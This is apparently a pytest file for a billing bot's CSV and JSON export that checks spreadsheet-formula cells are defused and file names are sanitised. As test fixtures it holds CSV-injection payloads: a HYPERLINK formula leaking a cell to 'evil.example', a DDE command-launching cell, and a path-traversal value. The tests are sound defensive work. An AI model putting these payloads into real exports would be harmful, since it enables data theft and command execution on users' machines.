"""The one CSV writer: safe to open in Excel (OWASP's CSV-injection rule), named by filter and rows."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest

from bot.billecta.dates import STOCKHOLM
from bot.services.event_log import LogEvent, build_log, export_csv, export_json, filter_log
from bot.services.export import csv_file, describe_filters, file_stem, safe_cell, write_csv


@pytest.mark.parametrize("dangerous", ['=HYPERLINK("http://evil","click")', "+1+1", "-2+3", "@SUM(A1)",
                                       "\t=1", "\r=1", "=cmd|' /C calc'!A0"])
def test_a_cell_a_spreadsheet_would_run_is_defused(dangerous: str) -> None:
    assert safe_cell(dangerous) == "'" + dangerous
    content, _ = write_csv(["reference"], [{"reference": dangerous}])
    (cell,) = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1]
    assert cell == "'" + dangerous and not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    assert [safe_cell(v) for v in ("Nordic Café AB", "a=b", None, Decimal("-125.50"), -3, True)] == [
        "Nordic Café AB", "a=b", "", "-125.50", "-3", "true"]


def test_every_cell_is_quoted_and_quotes_doubled() -> None:
    content, count = write_csv(["a", "b"], [{"a": 'say "hi"', "b": "x,y"}])
    assert count == 1
    assert content.decode("utf-8-sig") == '"a","b"\r\n"say ""hi""","x,y"\r\n'


def test_file_names_carry_the_filter_and_the_row_count() -> None:
    assert csv_file(file_stem("events", "invoice", "1001", filters={"text": "paid in full"}), ["a"],
                    [{"a": 1}, {"a": 2}]).filename == "events-invoice-1001-text-paid-in-full-2-rows.csv"
    assert file_stem("events", "invoice", "../../etc", filters={"event_type": ""}) == "events-invoice-etc"
    assert describe_filters({"text": "sent", "event_type": "Paid"}) == "text “sent”, event type “Paid”"


def test_a_payment_reference_formula_is_no_formula_in_the_event_log_export() -> None:
    at = datetime(2026, 11, 2, 9, 0, tzinfo=STOCKHOLM)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    log = build_log("invoice", "1001", "invoice 1001", [
        LogEvent("PaymentReceived", at, True, title="Payment 100,00 kr", reference=formula, by="-me"),
        LogEvent("InvoiceSent", at, True, title="Sent")])
    rows = list(csv.DictReader(io.StringIO(export_csv(log).content.decode("utf-8-sig"))))
    (paid,) = [r for r in rows if r["type"] == "PaymentReceived"]
    assert paid["reference"] == "'" + formula and paid["by"] == "'-me"
    filtered = filter_log(log, "payment")
    exported = export_json(filtered, {"text": "payment"})
    assert exported.filename == "events-invoice-1001-text-payment-1-row.json" and exported.rows == 1
